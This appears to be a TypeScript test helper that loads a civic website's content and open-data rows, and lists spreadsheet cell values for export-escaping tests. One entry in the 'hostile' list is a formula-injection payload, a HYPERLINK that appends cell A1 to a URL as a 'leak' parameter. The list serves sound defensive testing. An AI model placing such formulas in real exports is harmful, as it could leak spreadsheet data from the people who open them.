// The real content of content/ as the site indexes it, and the rows of every open-data
// collection from it, for the spreadsheet tests.
import { z } from 'zod';
import { indexContent, type ContentIndex } from '../../src/domain/contentIndex.ts';
import { datasets, rowsOf, type DatasetId } from '../../src/domain/opendata/datasets.ts';
import { rowSchemas } from '../../src/domain/opendata/rows.ts';
import { councilMeetingSchema } from '../../src/domain/schemas/index.ts';
import { graphOf, realDir } from '../domain/results/content.ts';
import { yamlEntries } from '../helpers/content.ts';
import { TEST_AS_OF } from '../helpers/contentGraph.ts';

export function realSite(): ContentIndex {
  return indexContent(
    {
      ...graphOf(realDir),
      councilMeetings: yamlEntries(realDir, 'council-meetings', councilMeetingSchema),
    },
    TEST_AS_OF,
  );
}

export function datasetRowsOf(site: ContentIndex): Array<{ id: DatasetId; rows: object[] }> {
  return datasets.map(({ id }) => ({
    id,
    rows: z.array(rowSchemas[id]).parse(rowsOf(id, site)),
  }));
}

/** Cells a spreadsheet would run or mangle, written by people (a survey proposal) or found in content/ («- о …»). */
export const hostile = [
  '=HYPERLINK("http://example.org/?leak="&A1,"Подробнее")',
  '=1+1',
  '+7 (495) 000-00-00',
  '-о реализации планов',
  '- о перечне организаций',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "'цитата'",
  'a=b',
  'Строка с "кавычками",\r\nи переносом',
  '-3',
  '-0.5',
];
